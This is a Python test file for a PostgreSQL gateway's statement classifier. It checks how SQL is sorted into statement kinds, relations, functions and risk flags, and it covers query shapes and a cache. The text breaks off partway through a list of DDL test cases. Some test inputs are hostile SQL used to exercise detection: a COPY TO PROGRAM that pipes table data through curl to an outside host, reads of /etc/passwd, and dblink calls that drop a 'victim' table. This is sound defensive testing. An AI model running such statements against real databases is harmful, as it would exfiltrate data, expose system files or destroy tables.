"""
Tests for L{gatehouse.protocols.postgres.statements}: statement kinds,
relations, functions and flags as PostgreSQL's own parser sees them,
whatever the spelling; the cache; shapes.
"""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st
from twisted.trial.unittest import SynchronousTestCase

from gatehouse.protocols.postgres.commands import CommandCache, statement_command
from gatehouse.protocols.postgres.statements import (
    UNPARSEABLE,
    Statement,
    classify,
    shape,
)


class ClassifyTestsMixin:
    """Helpers shared by the classification tests."""

    def one(self, sql: str) -> Statement:
        """Classify C{sql}, which must hold exactly one statement."""
        statements = classify(sql)
        self.assertEqual(len(statements), 1, statements)
        return statements[0]


class DataStatementTests(ClassifyTestsMixin, SynchronousTestCase):
    """SELECT, INSERT, UPDATE, DELETE, MERGE."""

    def test_select(self):
        """A SELECT reports its relations, qualified as written, in order."""
        s = self.one(
            'SELECT a FROM public.users u JOIN "Orders" o ON true, users WHERE x = 1'
        )
        self.assertEqual(s.kind, "SelectStmt")
        self.assertEqual(s.relations, ("public.users", "Orders", "users"))
        self.assertIsNone(s.has_where)
        self.assertIsNone(s.object_kind)
        self.assertIsNone(s.explain_of)
        self.assertFalse(s.copy_program)
        self.assertIsNone(s.error)
        self.assertTrue(s.parseable)

    def test_catalog_qualified(self):
        """A three-part name keeps all three parts."""
        self.assertEqual(self.one("SELECT * FROM db.s.t").relations, ("db.s.t",))

    def test_deduplicated(self):
        """A relation named twice is reported once."""
        s = self.one("SELECT * FROM t a JOIN t b ON a.id = b.id")
        self.assertEqual(s.relations, ("t",))

    def test_subqueries(self):
        """Relations inside subqueries in any clause are found."""
        s = self.one(
            "SELECT (SELECT max(x) FROM t2) FROM t"
            " WHERE EXISTS (SELECT 1 FROM t3) AND y IN (SELECT y FROM s.t4)"
        )
        self.assertEqual(s.relations, ("t2", "t", "t3", "s.t4"))
        self.assertEqual(s.functions, ("max",))

    def test_insert(self):
        """INSERT reports its target; INSERT ... SELECT its source too."""
        s = self.one("INSERT INTO t (a) VALUES (1)")
        self.assertEqual(
            (s.kind, s.relations, s.has_where), ("InsertStmt", ("t",), None)
        )
        s = self.one("INSERT INTO s.t SELECT * FROM u")
        self.assertEqual(s.relations, ("s.t", "u"))

    def test_update(self):
        """UPDATE with and without WHERE; UPDATE ... FROM reports both."""
        s = self.one("UPDATE t SET a = 1")
        self.assertEqual(
            (s.kind, s.relations, s.has_where), ("UpdateStmt", ("t",), False)
        )
        s = self.one("UPDATE t SET a = 1 FROM u WHERE t.id = u.id")
        self.assertEqual((s.relations, s.has_where), (("t", "u"), True))

    def test_delete(self):
        """DELETE with and without WHERE; DELETE ... USING reports both."""
        s = self.one("DELETE FROM t")
        self.assertEqual(
            (s.kind, s.relations, s.has_where), ("DeleteStmt", ("t",), False)
        )
        s = self.one("delete from public.t where id = 3")
        self.assertEqual((s.relations, s.has_where), (("public.t",), True))
        s = self.one("DELETE FROM t USING u")
        self.assertEqual((s.relations, s.has_where), (("t", "u"), False))

    def test_where_current_of(self):
        """WHERE CURRENT OF is a WHERE clause."""
        self.assertTrue(self.one("DELETE FROM t WHERE CURRENT OF c").has_where)

    def test_merge(self):
        """
        MERGE reports target and source; its DELETE action is also a
        DeleteStmt, bounded by the join condition.
        """
        s = self.one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE")
        self.assertEqual(
            (s.kind, s.relations, s.has_where, s.nested),
            ("MergeStmt", ("t", "s"), True, ("DeleteStmt",)),
        )


class UtilityStatementTests(ClassifyTestsMixin, SynchronousTestCase):
    """DROP, TRUNCATE, ALTER, GRANT, CREATE, COPY, DO, CALL."""

    def test_drop_table(self):
        """DROP TABLE names its tables; the object type is known."""
        s = self.one("DROP TABLE users")
        self.assertEqual(s.kind, "DropStmt")
        self.assertEqual(s.relations, ("users",))
        self.assertEqual(s.object_kind, "OBJECT_TABLE")
        self.assertIsNone(s.has_where)

    def test_drop_spellings(self):
        """
        Comments, case, quoting, IF EXISTS, CASCADE and several tables do
        not hide a DROP TABLE or its targets.
        """
        for sql, relations in [
            ('dRoP/**/TaBlE "Users"', ("Users",)),
            (
                "DROP TABLE IF EXISTS public.users, s.t2 CASCADE",
                ("public.users", "s.t2"),
            ),
            ("  drop\n\ttable -- comment\n users ;", ("users",)),
            ('DROP TABLE "My""T", "a.b"', ('My"T', "a.b")),
            ("DROP TABLE USERS", ("users",)),
            ("/* x */ DROP TABLE db.s.t", ("db.s.t",)),
        ]:
            s = self.one(sql)
            self.assertEqual(
                (s.kind, s.object_kind, s.relations),
                ("DropStmt", "OBJECT_TABLE", relations),
                sql,
            )

    def test_drop_other_objects(self):
        """Other DROPs name their objects and say their type."""
        for sql, kind, relations in [
            ("DROP VIEW v", "OBJECT_VIEW", ("v",)),
            ("DROP INDEX CONCURRENTLY s.i", "OBJECT_INDEX", ("s.i",)),
            ("DROP SCHEMA s CASCADE", "OBJECT_SCHEMA", ("s",)),
            ("DROP FUNCTION f(int)", "OBJECT_FUNCTION", ("f",)),
            ("DROP TYPE s.foo, bar", "OBJECT_TYPE", ("s.foo", "bar")),
        ]:
            s = self.one(sql)
            self.assertEqual(
                (s.kind, s.object_kind, s.relations), ("DropStmt", kind, relations)
            )

    def test_drop_database(self):
        """DROP DATABASE is its own statement kind."""
        self.assertEqual(self.one("DROP DATABASE prod").kind, "DropdbStmt")

    def test_truncate(self):
        """TRUNCATE names its tables as OBJECT_TABLE."""
        s = self.one("TRUNCATE a, s.b RESTART IDENTITY")
        self.assertEqual(
            (s.kind, s.object_kind, s.relations),
            ("TruncateStmt", "OBJECT_TABLE", ("a", "s.b")),
        )

    def test_alter_table(self):
        """ALTER TABLE names its table; a rename is a RenameStmt."""
        s = self.one("ALTER TABLE s.t ADD COLUMN c int")
        self.assertEqual(
            (s.kind, s.object_kind, s.relations),
            ("AlterTableStmt", "OBJECT_TABLE", ("s.t",)),
        )
        s = self.one("ALTER TABLE t RENAME TO u")
        self.assertEqual(
            (s.kind, s.object_kind, s.relations), ("RenameStmt", "OBJECT_TABLE", ("t",))
        )

    def test_grant_revoke(self):
        """GRANT and REVOKE name their objects, relations or not."""
        s = self.one("GRANT SELECT, INSERT ON public.t, u TO bob")
        self.assertEqual(
            (s.kind, s.object_kind, s.relations),
            ("GrantStmt", "OBJECT_TABLE", ("public.t", "u")),
        )
        s = self.one("REVOKE ALL ON t FROM bob")
        self.assertEqual((s.kind, s.relations), ("GrantStmt", ("t",)))
        s = self.one("GRANT ALL ON ALL TABLES IN SCHEMA s TO bob")
        self.assertEqual((s.object_kind, s.relations), ("OBJECT_TABLE", ("s",)))
        s = self.one("GRANT USAGE ON SCHEMA s TO bob")
        self.assertEqual((s.object_kind, s.relations), ("OBJECT_SCHEMA", ("s",)))
        self.assertEqual(self.one("GRANT admin TO bob").kind, "GrantRoleStmt")

    def test_create(self):
        """CREATE TABLE, CREATE TABLE AS and CREATE INDEX name their relations."""
        s = self.one("CREATE TABLE s.t (id int REFERENCES u (id))")
        self.assertEqual((s.kind, s.relations), ("CreateStmt", ("s.t", "u")))
        s = self.one("CREATE TABLE x AS SELECT * FROM y")
        self.assertEqual(
            (s.kind, s.relations, s.object_kind),
            ("CreateTableAsStmt", ("y", "x"), "OBJECT_TABLE"),
        )
        s = self.one("CREATE INDEX i ON t (a)")
        self.assertEqual((s.kind, s.relations), ("IndexStmt", ("t",)))

    def test_copy_program(self):
        """COPY ... TO/FROM PROGRAM is flagged; plain COPY is not."""
        s = self.one("COPY t TO PROGRAM 'curl -d @- http://x'")
        self.assertEqual(
            (s.kind, s.relations, s.copy_program), ("CopyStmt", ("t",), True)
        )
        self.assertTrue(self.one("copy t from program 'cat /etc/passwd'").copy_program)
        self.assertFalse(self.one("COPY t TO STDOUT").copy_program)
        self.assertFalse(self.one("COPY t FROM '/tmp/x'").copy_program)

    def test_copy_query(self):
        """A DELETE inside COPY (...) shows."""
        s = self.one("COPY (DELETE FROM t RETURNING *) TO STDOUT")
        self.assertEqual(
            (s.kind, s.relations, s.has_where, s.nested),
            ("CopyStmt", ("t",), False, ("DeleteStmt",)),
        )

    def test_do(self):
        """A DO block is a DoStmt (its body is opaque PL/pgSQL)."""
        s = self.one("DO $$BEGIN PERFORM pg_sleep(1); END$$")
        self.assertEqual((s.kind, s.relations, s.functions), ("DoStmt", (), ()))

    def test_call(self):
        """CALL reports the procedure and the functions in its arguments."""
        s = self.one("CALL myproc(pg_sleep(1))")
        self.assertEqual((s.kind, s.functions), ("CallStmt", ("myproc", "pg_sleep")))

    def test_transaction(self):
        """Transaction control has its own kind and touches nothing."""
        s = self.one("BEGIN")
        self.assertEqual(
            (s.kind, s.relations, s.functions), ("TransactionStmt", (), ())
        )


class FunctionTests(ClassifyTestsMixin, SynchronousTestCase):
    """Function calls anywhere in a statement."""

    def test_select_function(self):
        """SELECT pg_sleep(1) calls pg_sleep."""
        s = self.one("SELECT pg_sleep(1)")
        self.assertEqual(
            (s.kind, s.functions, s.relations), ("SelectStmt", ("pg_sleep",), ())
        )

    def test_qualified(self):
        """A qualified call keeps its schema, as written."""
        s = self.one(
            "SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity"
        )
        self.assertEqual(s.functions, ("pg_catalog.pg_terminate_backend",))
        self.assertEqual(s.relations, ("pg_stat_activity",))

    def test_in_from_and_where(self):
        """Functions in FROM, WHERE and nested calls are all found."""
        s = self.one(
            "SELECT * FROM generate_series(1, 3) g WHERE lower(upper(x)) = 'a'"
        )
        self.assertEqual(s.functions, ("generate_series", "lower", "upper"))


class WrapperTests(ClassifyTestsMixin, SynchronousTestCase):
    """Statements inside EXPLAIN, PREPARE and CTEs cannot hide."""

    def test_explain_analyze_delete(self):
        """EXPLAIN ANALYZE DELETE FROM t shows the DELETE, its table and no WHERE."""
        s = self.one("EXPLAIN ANALYZE DELETE FROM t")
        self.assertEqual(s.kind, "ExplainStmt")
        self.assertEqual(s.explain_of, "DeleteStmt")
        self.assertEqual(s.relations, ("t",))
        self.assertIs(s.has_where, False)
        self.assertEqual(s.nested, ("DeleteStmt",))

    def test_explain_select(self):
        """EXPLAIN SELECT: the wrapped kind, no DELETE/UPDATE flag."""
        s = self.one("EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t WHERE a = 1")
        self.assertEqual(
            (s.explain_of, s.relations, s.has_where), ("SelectStmt", ("t",), None)
        )

    def test_explain_create_table_as(self):
        """EXPLAIN of CREATE TABLE AS takes the object type of the inner statement."""
        s = self.one("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1")
        self.assertEqual(
            (s.explain_of, s.object_kind), ("CreateTableAsStmt", "OBJECT_TABLE")
        )

    def test_prepare(self):
        """PREPARE ... AS UPDATE shows the UPDATE like EXPLAIN does."""
        s = self.one("PREPARE p AS UPDATE t SET a = $1")
        self.assertEqual(
            (s.kind, s.explain_of, s.relations, s.has_where),
            ("PrepareStmt", "UpdateStmt", ("t",), False),
        )

    def test_cte_delete(self):
        """
        A DELETE in a CTE shows: its table, no WHERE, and the nested kind;
        the CTE's own name is not a relation.
        """
        s = self.one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
        self.assertEqual(s.kind, "SelectStmt")
        self.assertEqual(s.relations, ("t",))
        self.assertIs(s.has_where, False)
        self.assertEqual(s.nested, ("DeleteStmt",))

    def test_has_where_everywhere(self):
        """has_where is False if any DELETE/UPDATE in the statement lacks one."""
        s = self.one(
            "WITH d AS (DELETE FROM t RETURNING id)"
            " DELETE FROM u WHERE id IN (SELECT id FROM d)"
        )
        self.assertEqual((s.kind, s.has_where), ("DeleteStmt", False))
        s = self.one(
            "WITH d AS (UPDATE t SET a = 1 WHERE b RETURNING id) SELECT * FROM d"
        )
        self.assertIs(s.has_where, True)

    def test_cte_scoping(self):
        """
        Only names a CTE puts in scope are left out: a non-recursive CTE
        reading a table of its own name, a CTE inside a subquery, and
        qualified names all refer to tables.
        """
        self.assertEqual(
            self.one("WITH t AS (SELECT * FROM t) SELECT * FROM t").relations, ("t",)
        )
        self.assertEqual(
            self.one(
                "SELECT * FROM (WITH q AS (SELECT 1) SELECT * FROM q) s, q"
            ).relations,
            ("q",),
        )
        self.assertEqual(
            self.one("WITH t AS (SELECT 1) SELECT * FROM t, public.t").relations,
            ("public.t",),
        )
        self.assertEqual(
            self.one(
                "WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r)"
                " SELECT * FROM r, x"
            ).relations,
            ("x",),
        )

    def test_cte_name_as_target(self):
        """A DML target is a table even when a CTE has its name."""
        s = self.one("WITH users AS (SELECT 1) DELETE FROM users")
        self.assertEqual((s.relations, s.has_where), (("users",), False))


class TextTests(ClassifyTestsMixin, SynchronousTestCase):
    """Splitting, text slices, empty and unparseable input."""

    def test_multi_statement(self):
        """Each statement of a string comes back with its own text."""
        statements = classify(
            "  /* c */ SELECT 1 ; \n-- x\n  DROP TABLE t;DELETE FROM u"
        )
        self.assertEqual(
            [(s.kind, s.text) for s in statements],
            [
                ("SelectStmt", "SELECT 1"),
                ("DropStmt", "DROP TABLE t"),
                ("DeleteStmt", "DELETE FROM u"),
            ],
        )
        self.assertEqual(statements[2].has_where, False)

    def test_non_ascii_offsets(self):
        """Text slices are right after multi-byte characters (offsets are bytes)."""
        statements = classify("SELECT 'é€'; SELECT * FROM \"tä\"; DROP TABLE x")
        self.assertEqual(
            [s.text for s in statements],
            ["SELECT 'é€'", 'SELECT * FROM "tä"', "DROP TABLE x"],
        )
        self.assertEqual(statements[1].relations, ("tä",))

    def test_empty(self):
        """Empty, blank, comment-only and bare semicolons give no statement."""
        for sql in ("", "   \n\t", "-- only a comment", "/* x */", ";;"):
            self.assertEqual(classify(sql), (), repr(sql))

    def test_unparseable(self):
        """Text the grammar rejects is one Unparseable statement with the error."""
        for sql in (
            "SELEC 1",
            "SELECT 1; selec 2",
            "SELECT 'unterminated",
            "DROP TABLE",
        ):
            (s,) = classify(sql)
            self.assertEqual(s.kind, UNPARSEABLE)
            self.assertEqual(s.text, sql)
            self.assertIsInstance(s.error, str)
            self.assertFalse(s.parseable)
            self.assertEqual(s.relations, ())
        (s,) = classify("SELEC 1")
        self.assertIn('syntax error at or near "SELEC"', s.error)

    def test_nul(self):
        """A NUL would hide what follows from the parser: unparseable."""
        (s,) = classify("SELECT 1\0; DROP TABLE t")
        self.assertEqual(s.kind, UNPARSEABLE)

    def test_invalid_encoding(self):
        """Bytes invalid in the client encoding (lone surrogates) are unparseable."""
        (s,) = classify("SELECT '\udcff'")
        self.assertEqual(s.kind, UNPARSEABLE)
        self.assertIn("encoding", s.error)

    def test_deep_expressions_classified(self):
        """
        Expressions as deep as PostgreSQL accepts are classified (the
        walk and the JSON decoding do not recurse).
        """
        for terms in (600, 3000, 5000):
            sql = "SELECT " + "+".join(["1"] * terms) + " FROM t"
            (s,) = classify(sql)
            self.assertEqual((s.kind, s.relations), ("SelectStmt", ("t",)), terms)
        sql = "DELETE FROM t WHERE x + " + "+".join(["1"] * 3000) + " > pg_sleep(1)"
        (s,) = classify(sql)
        self.assertEqual((s.functions, s.has_where), (("pg_sleep",), True))

    def test_too_deep_for_postgres(self):
        """
        What libpg_query's (PostgreSQL's) own stack limit rejects gets
        PostgreSQL's answer: 54001, stack depth limit exceeded.
        """
        sql = "SELECT " + "+".join(["1"] * 20000)
        (s,) = classify(sql)
        self.assertEqual((s.kind, s.sqlstate), (UNPARSEABLE, "54001"))
        self.assertIn("stack depth", s.error)

    def test_statement_defaults(self):
        """Statement can be built with just a kind and text."""
        s = Statement(kind=UNPARSEABLE, text="x", error="bad")
        self.assertEqual((s.relations, s.functions, s.copy_program), ((), (), False))


class ShapeTests(SynchronousTestCase):
    """Shapes: texts with their constants replaced."""

    def test_constants_ignored(self):
        """Texts differing only in constant values share a shape."""
        self.assertEqual(
            shape("SELECT * FROM t WHERE a = 5 AND b = 'x'"),
            shape("SELECT * FROM t WHERE a = 77 AND b = 'yy'"),
        )
        self.assertEqual(
            shape("SELECT abalance FROM pgbench_accounts WHERE aid = 1;"),
            shape("SELECT abalance FROM pgbench_accounts WHERE aid = 99999;"),
        )

    def test_names_kept(self):
        """
        Every name stays part of the shape, including those libpg_query's
        fingerprint ignores (a relation under an alias, a schema, a
        temporary or date-suffixed table): sharing a classification there
        would let one relation pass for another.
        """
        for a, b in [
            ("SELECT * FROM t", "SELECT * FROM u"),
            ("DELETE FROM t", "SELECT * FROM t"),
            ("SELECT * FROM public_t AS x", "SELECT * FROM secrets AS x"),
            (
                "DELETE FROM public.log AS a WHERE id = 1",
                "DELETE FROM audit.log AS a WHERE id = 1",
            ),
            ("SELECT * FROM public.x", "SELECT * FROM audit.x"),
            ("SELECT * FROM audit_2024", "SELECT * FROM audit_2025"),
            ("CREATE TEMP TABLE a AS SELECT 1", "CREATE TEMP TABLE b AS SELECT 1"),
        ]:
            self.assertNotEqual(shape(a), shape(b), (a, b))

    def test_options_kept(self):
        """Constants that are options, not values, stay: they change meaning."""
        for a, b in [
            ("COPY t TO STDOUT (FORMAT 'csv')", "COPY t TO STDOUT (FORMAT 'binary')"),
            ("COPY t TO STDOUT (DELIMITER ';')", "COPY t TO STDOUT (DELIMITER '|')"),
            ("EXPLAIN (ANALYZE 0) DELETE FROM t", "EXPLAIN (ANALYZE 1) DELETE FROM t"),
            ("COPY t TO PROGRAM 'a'", "COPY t TO PROGRAM 'b'"),
        ]:
            self.assertNotEqual(shape(a), shape(b), (a, b))

    def test_unparseable(self):
        """Unparseable text has no shape."""
        self.assertIsNone(shape("SELEC 1"))
        self.assertIsNone(shape("SELECT '\udcff'"))
        self.assertIsNone(shape("SELECT 1\0"))


class ForTextTests(SynchronousTestCase):
    """Rebinding a shared classification to the client's own text."""

    def test_single_statement_rebound(self) -> None:
        found = CommandCache().lookup("SELECT * FROM t WHERE a = 1")
        own = found.for_text("SELECT * FROM t WHERE a = 2")
        self.assertEqual(own.commands[0].text, "SELECT * FROM t WHERE a = 2")
        self.assertEqual(own.shape, found.shape)

    def test_several_statements_classified_again(self) -> None:
        """Every statement of another text is kept: none is lost."""
        found = CommandCache().lookup("SELECT 1; SELECT 2")
        own = found.for_text("SELECT 1; DROP TABLE t")
        self.assertEqual([c.kind for c in own.commands], ["SelectStmt", "DropStmt"])


class CommandCacheTests(SynchronousTestCase):
    """The LRU cache of classifications (by exact text)."""

    def test_hits_and_misses(self):
        """The first lookup of a text misses, later ones hit, same result."""
        cache = CommandCache()
        first = cache.classify("SELECT * FROM t")
        second = cache.classify("SELECT * FROM t")
        self.assertIs(first, second)
        self.assertEqual((cache.hits, cache.misses), (1, 1))
        cache.classify("SELECT * FROM  t")
        self.assertEqual((cache.hits, cache.misses), (1, 2))
        self.assertEqual(len(cache), 2)

    def test_lru_eviction(self):
        """The least recently used text goes first."""
        cache = CommandCache(size=2)
        cache.classify("SELECT 1")
        cache.classify("SELECT 2")
        cache.classify("SELECT 1")  # now most recent
        cache.classify("SELECT 3")  # evicts SELECT 2
        self.assertEqual(len(cache), 2)
        cache.classify("SELECT 1")
        self.assertEqual(cache.hits, 2)
        cache.classify("SELECT 2")
        self.assertEqual(cache.misses, 4)

    def test_unparseable_cached(self):
        """Unparseable results are cached too."""
        cache = CommandCache()
        cache.classify("SELEC 1")
        (s,) = cache.classify("SELEC 1").statements
        self.assertEqual((s.kind, cache.hits), (UNPARSEABLE, 1))

    def test_long_text_not_kept(self):
        """Texts over max_text are classified but not kept."""
        cache = CommandCache(max_text=20)
        sql = "SELECT * FROM a_rather_long_table_name"
        self.assertEqual(
            cache.classify(sql).statements[0].relations, ("a_rather_long_table_name",)
        )
        cache.classify(sql)
        self.assertEqual((cache.hits, cache.misses, len(cache)), (0, 2, 0))

    def test_clear(self):
        """clear() empties the cache."""
        cache = CommandCache()
        cache.classify("SELECT 1")
        cache.clear()
        self.assertEqual(len(cache), 0)

    def test_bad_size(self):
        """A cache must hold at least one entry."""
        self.assertRaises(ValueError, CommandCache, 0)


def command(sql: str):
    """The one command of C{sql}."""
    (found,) = CommandCache().classify(sql).commands
    return found


class SQLInStringsTests(ClassifyTestsMixin, SynchronousTestCase):
    """Built-ins that run SQL text, or read a relation named by text."""

    def test_literal_sql_classified(self):
        """A literal's statement is merged into the calling one."""
        for sql in [
            "SELECT dblink_exec('dbname=x', 'DROP TABLE victim')",
            "SELECT dblink_exec('c', $$drop table victim$$)",
            "SELECT dblink_exec('c', E'drop\\x20table victim')",
            "SELECT * FROM dblink_exec('c', 'drop table victim')",
            "SELECT public.dblink_exec('c', 'drop table victim'::text)",
            "SELECT dblink_exec('drop table victim')",
            "SELECT dblink('drop table victim', true)",
        ]:
            s = self.one(sql)
            self.assertIn("DropStmt", s.nested, sql)
            self.assertIn("victim", s.relations, sql)
            self.assertNotIn("opaque", s.flags, sql)
            self.assertTrue(s.constant_dependent, sql)

    def test_inner_facts_merged(self):
        """Functions, flags and a missing WHERE inside the string count."""
        s = self.one(
            "SELECT query_to_xml('delete from t returning pg_read_file(''/x'')', "
            "true, true, '')"
        )
        self.assertEqual(s.has_where, False)
        self.assertIn("pg_read_file", s.functions)
        self.assertIn("server-file", s.flags)
        self.assertIn("DeleteStmt", s.nested)
        s = self.one("SELECT ts_stat('select v from secret_t')")
        self.assertEqual(s.relations, ("secret_t",))
        s = self.one("SELECT ts_rewrite('a'::tsquery, 'select q, s from aliases')")
        self.assertEqual(s.relations, ("aliases",))
        s = self.one("SELECT ts_rewrite('a'::tsquery, 'b'::tsquery, 'c'::tsquery)")
        self.assertEqual((s.relations, s.flags), ((), frozenset()))

    def test_non_literal_opaque(self):
        """SQL the gateway cannot read makes the statement opaque."""
        for sql in [
            "SELECT dblink_exec('c', 'drop ' || 'table t')",
            "SELECT dblink_exec('c', format('drop table %I', 't'))",
            "SELECT dblink_exec('c', (SELECT 'drop table t'))",
            "SELECT dblink_exec('c', q) FROM queue",
            "SELECT dblink_exec('c', $1)",
            "SELECT query_to_xml(query => 'select 1', nulls => true, "
            "tableforest => true, targetns => '')",
            "SELECT query_to_xml(VARIADIC ARRAY['select 1'])",
            "SELECT dblink_open('cur', 'select 1')",
            "SELECT dblink_fetch('cur', 10)",
            "SELECT cursor_to_xml('c', 1, true, true, '')",
            "SELECT schema_to_xml('public', true, true, '')",
            "SELECT database_to_xml(true, true, '')",
            "SELECT table_to_xml(oid::regclass, true, true, '') FROM pg_class",
            "SELECT table_to_xml('a.b.c.d', true, true, '')",
            "SELECT dblink_exec('c', 'selec 1')",
            "SELECT query_to_xml('do $$ begin end $$', true, true, '')",
            "SELECT cron.schedule('x', '* * * * *', 'drop table t')",
        ]:
            self.assertIn("opaque", self.one(sql).flags, sql)
            self.assertIn("opaque", command(sql).flags, sql)

    def test_other_schedules_not_opaque(self):
        """Only pg_cron's schedule() runs SQL later, not every schedule()."""
        self.assertEqual(self.one("SELECT app.schedule(1)").flags, frozenset())

    def test_depth_bound(self):
        """SQL in SQL in SQL ... is classified down to a bound, then opaque."""
        inner = "drop table victim"
        for depth in range(1, 8):
            quoted = inner.replace("'", "''")
            inner = f"select query_to_xml('{quoted}', true, true, '')"
            s = self.one(inner)
            if depth <= 4:
                self.assertIn("DropStmt", s.nested, depth)
            else:
                self.assertIn("opaque", s.flags, depth)

    def test_named_relations(self):
        """table_to_xml('name') reads the relation the name denotes."""
        for sql, name in [
            ("SELECT table_to_xml('secret', true, true, '')", "secret"),
            ("SELECT table_to_xml('SECRET'::regclass, true, true, '')", "secret"),
            (
                "SELECT table_to_xml(' public . Secret ', true, true, '')",
                "public.secret",
            ),
            ("SELECT table_to_xml('\"S.x\"', true, true, '')", "S.x"),
            ("SELECT table_to_xmlschema('s.t', true, true, '')", "s.t"),
            ("SELECT pg_prewarm('t')", "t"),
        ]:
            self.assertEqual(self.one(sql).relations, (name,), sql)

    def test_server_files(self):
        """File built-ins carry the server-file flag."""
        for name in (
            "pg_read_file",
            "pg_read_binary_file",
            "pg_ls_dir",
            "pg_stat_file",
            "lo_import",
            "pg_catalog.lo_export",
        ):
            sql = f"SELECT {name}('/etc/passwd')"
            self.assertIn("server-file", command(sql).flags, sql)

    def test_copy_files(self):
        """COPY to and from a server file have flags; STDIN/STDOUT do not."""
        self.assertIn("copy-to-file", command("COPY t TO '/tmp/x'").flags)
        self.assertIn("copy-from-file", command("COPY t FROM '/tmp/x'").flags)
        self.assertIn(
            "copy-to-file", command("COPY (SELECT 1) TO '/tmp/x' (FORMAT csv)").flags
        )
        for sql in ("COPY t TO STDOUT", "COPY t FROM STDIN"):
            self.assertFalse(
                {"copy-to-file", "copy-from-file"} & command(sql).flags, sql
            )
        flags = command("COPY t TO PROGRAM 'cat'").flags
        self.assertIn("copy-program", flags)
        self.assertNotIn("copy-to-file", flags)


class DDLFunctionTests(ClassifyTestsMixin, SynchronousTestCase):
    """Functions named by DDL for later use appear in functions."""

    SPELLINGS = [
        ("CREATE OPERATOR === (LEFTARG=int, RIGHTARG=int, FUNCTION=s.f1)", "s.f1"),
        ("CREATE OPERATOR === (LEFTARG=int, RIGHTARG=int, PROCEDURE=f1)", "f1"),
        (
            "CREATE OPERATOR === (LEFTARG=int, RIGHTARG=int, PROCEDURE=int4eq, "
            "RESTRICT=f2)",
            "f2",
        ),
        (
            "CREATE OPERATOR === (LEFTARG=int, RIGHTARG=int, PROCEDURE=int4eq, "
            "JOIN=f3)",
            "f3",
        ),
        ("CREATE AGGREGATE a(int) (SFUNC=f1, STYPE=int)", "f1"),
        ("CREATE AGGREGATE a(int) (SFUNC=x, STYPE=int, FINALFUNC=f2)", "f2"),
        ("CREATE AGGREGATE a(int) (SFUNC=x, STYPE=int, COMBINEFUNC=f3)", "f3"),
        (
            "CREATE AGGREGATE a(int) (SFUNC=x, STYPE=internal, SERIALFUNC=f4, "
            "DESERIALFUNC=f5)",
            "f4",
        ),
        (
            "CREATE AGGREGATE a(int) (SFUNC=x, STYPE=internal, SERIALFUNC=x, "
            "DESERIALFUNC=f5)",
            "f5",
        ),
        (
            "CREATE AGGREGATE a(int) (SFUNC=x, STYPE=int, MSFUNC=f6, MINVFUNC=y, "
            "MSTYPE=int)",
            "f6",
        ),
        (
            "CREATE AGGREGATE a(int) (SFUNC=x, STYPE=int, MSFUNC=x, MINVFUNC=f7, "
            "MSTYPE=int)",
            "f7",
        ),
        (
            "CREATE AGGREGATE a(int) (SFUNC=x, STYPE=int, MSFUNC=x, MINVFUNC=y, "
            "MSTYPE=int, MFINALFUNC=f8)",
            "f8",
        ),
        ("CREATE AGGREGATE a (BASETYPE=int, SFUNC=f9, STYPE=int)", "f9"),
        ("CREATE CAST (int AS text) WITH FUNCTION f9(int)", "f9"),
        (
            "CREATE TRIGGER t BEFORE INSERT ON x FOR EACH ROW EXECUTE FUNCTION f10()",
            "f10",
        ),
        ("CREATE TRIGGER t AFTER UPDATE ON x EXECUTE PROCEDURE s.f10()", "s.f10"),
        (
            "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON x FOR EACH ROW "
            "EXECUTE FUNCTION f10()",
            "f10",
        ),
        ("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f11()", "f11"),
        ("CREATE TYPE ty (INPUT=f12, OUTPUT=x)", "f12"),
        ("CREATE TYPE ty (INPUT=x, OUTPUT=f13)", "f13"),
        ("CREATE TYPE ty (INPUT=x, OUTPUT=y, RECEIVE=f14, SEND=z)", "f14"),
        ("CREATE TYPE ty (INPUT=x, OUTPUT=y, SEND=f15)", "f15"),
        ("CREATE TYPE ty (INPUT=x, OUTPUT=y, TYPMOD_IN=f16)", "f16"),
        ("CREATE TYPE ty (INPUT=x, OUTPUT=y, TYPMOD_OUT=f17)", "f17"),
        ("CREATE TYPE ty (INPUT=x, OUTPUT=y, ANALYZE=f18)", "f18"),
        ("CREATE TYPE ty (INPUT=x, OUTPUT=y, SUBSCRIPT=f19)", "f19"),
        ("CREATE TYPE r AS RANGE (SUBTYPE=int, CANONICAL=f20)", "f20"),
        ("CREATE TYPE r AS RANGE (SUBTYPE=int, SUBTYPE_DIFF=f21)", "f21"),
        ("ALTER TYPE ty SET (SEND=f22)", "f22"),
        ("ALTER OPERATOR === (int, int) SET (RESTRICT=f23)", "f23"),
        ("ALTER OPERATOR === (int, int) SET (JOIN=f23)", "f23"),
        (
            "CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION "
            "f24(internal), TO SQL WITH FUNCTION x(internal))",
            "f24",
        ),
        (
            "CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION x(internal),"
            " TO SQL WITH FUNCTION f25(internal))",
            "f25",
        ),
        ("CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f26", "f26"),
        ("CREATE DEFAULT CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM s.f26", "s.f26"),
        ("CREATE LANGUAGE l HANDLER f27", "f27"),
        ("CREATE LANGUAGE l HANDLER x INLINE f28", "f28"),
        ("CREATE LANGUAGE l HANDLER x VALIDATOR f29", "f29"),
        ("CREATE FOREIGN DATA WRAPPER w HANDLER f30", "f30"),
        ("CREATE FOREIGN DATA WRAPPER w VALIDATOR f31", "f31"),
        ("ALTER FOREIGN DATA WRAPPER w HANDLER f30", "f30"),
        ("ALTER FOREIGN DATA WRAPPER w VALIDATOR f31", "f31"),
        ("CREATE ACCESS METHOD am TYPE TABLE HANDLER f32", "f32"),
        ("CREATE ACCESS METHOD am TYPE INDEX HANDLER f32", "f32"),
        (
            "CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS OPERATOR 1 <, "
            "FUNCTION 1 f33(int, int)",
            "f33",
        ),
        (
            "CREATE OPERATOR CLASS oc FOR TYPE int USING gist AS "
            "FUNCTION 1 (int) f33(int)",
            "f33",
        ),
        (
